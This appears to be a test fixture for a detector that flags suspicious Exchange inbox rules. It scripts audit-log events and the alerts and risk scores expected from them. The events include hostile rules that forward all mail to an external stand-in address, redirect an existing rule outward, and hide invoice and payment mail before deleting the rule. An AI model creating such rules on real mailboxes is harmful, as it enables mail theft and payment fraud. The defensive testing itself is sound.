# The same judgement on the audit log: a rule made by a cmdlet, one turned outward, one made and removed.
domain fabrikam.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"

mon 02:20 amy runs New-InboxRule from 203.0.113.7 Name="." ForwardTo="eve@evil.example" MarkAsRead="True"
mon 09:00 bob runs New-InboxRule Name="Deputy" SubjectContainsWords="contract" ForwardTo="cyd@fabrikam.com"
tue 03:00 bob runs Set-InboxRule Identity="Deputy" ForwardTo="eve@mallory.example"
wed 01:00 cyd runs New-InboxRule Name="Hide" SubjectContainsWords="invoice;payment" MoveToFolder="RSS Feeds"
wed 03:00 cyd runs Remove-InboxRule Identity="Hide"
expect forward-everything amy risk 85
expect turned-outward bob risk 75
expect forward-outside bob risk 60
expect hides-money-mail cyd risk 60
expect hidden-folder cyd
expect short-lived-rule cyd risk 60
